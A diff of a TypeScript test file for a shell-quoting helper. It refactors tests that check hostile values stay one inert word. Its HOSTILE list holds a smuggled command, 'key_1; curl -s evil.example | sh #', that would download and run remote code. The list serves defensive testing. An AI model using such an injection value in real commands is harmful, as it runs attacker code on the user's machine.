@@ -1,16 +1,10 @@
 // Suggested commands are pasted into shells: whatever a value holds (a server's id, a path), the
 // quoted word must reach the program as exactly that value, and nothing in it may run.
-import { spawnSync } from 'node:child_process';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { commandLine, shellQuote } from '../src/text/shell.js';
-
-/** The words a real POSIX shell makes of `line` (as `printf` receives them), never running them. */
-function wordsOf(line: string): string[] {
-  const r = spawnSync('sh', ['-c', `set -- ${line}; for w in "$@"; do printf '%s\\0' "$w"; done`], { encoding: 'utf8' });
-  if (r.status !== 0) throw new Error(`sh failed on ${line}: ${r.stderr}`);
-  return r.stdout.split('\0').slice(0, -1);
-}
+import { anyString } from './helpers/arbitraries.js';
+import { wordsOf, wordsOfEach } from './helpers/shell-words.js';
 
 const HOSTILE = [
   'key_1; curl -s evil.example | sh #',
@@ -45,18 +39,16 @@ describe('shellQuote', () => {
   });
 
   it('a real shell reads every hostile value back as one word, exactly, without running anything', () => {
-    for (const value of HOSTILE) {
-      expect(wordsOf(shellQuote(value)), JSON.stringify(value)).toEqual([value]);
-    }
+    const words = wordsOfEach(HOSTILE.map(shellQuote));
+    HOSTILE.forEach((value, i) => expect(words[i], JSON.stringify(value)).toEqual([value]));
   });
 
   it('any string without NUL survives the shell unchanged (property)', () => {
-    fc.assert(
-      fc.property(fc.string({ unit: 'binary', maxLength: 40 }).filter((s) => !s.includes('\0')), (value) => {
-        expect(wordsOf(shellQuote(value))).toEqual([value]);
-      }),
-      { numRuns: 60 },
-    );
+    // Sampled, then read back by one shell: a shell per run would cost more than the check.
+    // A shell's arguments are bytes: no NUL, and no lone surrogate (it has no UTF-8 form).
+    const values = fc.sample(anyString({ maxLength: 40 }).filter((s) => !s.includes('\0') && !/[\uD800-\uDFFF]/u.test(s)), 200);
+    const words = wordsOfEach(values.map(shellQuote));
+    values.forEach((value, i) => expect(words[i], JSON.stringify(value)).toEqual([value]));
   });
 });
 
@@ -75,11 +67,11 @@ describe('commandLine', () => {
   });
 
   it('every hostile value stays one operand', () => {
-    for (const value of HOSTILE) {
-      const line = commandLine({ command: ['crawl', 'job', 'status'], operands: [value] });
-      const words = wordsOf(line);
+    const all = wordsOfEach(HOSTILE.map((value) => commandLine({ command: ['crawl', 'job', 'status'], operands: [value] })));
+    HOSTILE.forEach((value, i) => {
+      const words = all[i] ?? [];
       expect(words.at(-1), JSON.stringify(value)).toBe(value);
       expect(words.slice(0, 3)).toEqual(['crawl', 'job', 'status']);
-    }
+    });
   });
 });
